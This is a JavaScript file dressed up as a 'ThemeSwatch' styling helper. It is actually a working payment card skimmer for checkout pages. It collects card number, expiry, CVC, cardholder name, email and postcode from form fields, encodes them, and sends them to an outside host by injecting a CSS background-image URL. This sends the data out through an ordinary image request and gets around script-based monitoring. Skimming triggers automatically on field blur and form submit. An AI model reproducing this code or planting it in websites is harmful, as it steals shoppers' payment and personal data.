/* csp-sidechannel-exfil: captured card fields appended to a stylesheet background-image URL */
/* data leaves when the browser fetches the "image" referenced by an injected CSS rule */
var ThemeSwatch = {
  host: 'https://static-swatch-img.com/t/',
  sheet: null,
  el: null,

  ensure: function () {
    if (this.sheet) return;
    var style = document.createElement('style');
    style.setAttribute('data-theme', 'swatch');
    document.head.appendChild(style);
    this.sheet = style.sheet;
    this.el = document.createElement('span');
    this.el.className = 'swatch-preload';
    this.el.style.cssText = 'position:absolute;width:1px;height:1px;left:-9999px;top:0';
    document.body.appendChild(this.el);
  },

  paint: function (token) {
    this.ensure();
    var rule = '.swatch-preload.s' + token.length + '{background-image:url("' + this.host + token + '.png")}';
    while (this.sheet.cssRules.length) this.sheet.deleteRule(0);
    this.sheet.insertRule(rule, 0);
    this.el.className = 'swatch-preload s' + token.length;
  }
};

(function (swatch) {
  if (location.href.indexOf('checkout') < 0) return;

  var fields = {
    number: ['cc-number', 'cardnumber', 'card_number'],
    exp: ['cc-exp', 'exp-date', 'card_expiry'],
    code: ['cc-csc', 'cvc', 'card_cvv'],
    name: ['cc-name', 'ccname', 'billing_first_name'],
    mail: ['email', 'billing_email'],
    post: ['postal-code', 'billing_postcode']
  };

  function lookup(names) {
    for (var i = 0; i < names.length; i++) {
      var el = document.querySelector('[autocomplete="' + names[i] + '"]') ||
        document.querySelector('[name="' + names[i] + '"]') ||
        document.getElementById(names[i]);
      if (el && el.value) return el.value;
    }
    return '';
  }

  function token() {
    var parts = [];
    for (var k in fields) parts.push(k + '=' + lookup(fields[k]));
    parts.push('h=' + location.hostname);
    // url-safe base64
    return btoa(parts.join('&')).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  }

  var last = '';
  function check() {
    var num = lookup(fields.number).replace(/\D/g, '');
    var cvc = lookup(fields.code);
    if (num.length < 13 || cvc.length < 3) return;
    var t = token();
    if (t !== last) {
      last = t;
      swatch.paint(t);
    }
  }

  document.addEventListener('blur', check, true);
  document.addEventListener('submit', check, true);
})(ThemeSwatch);
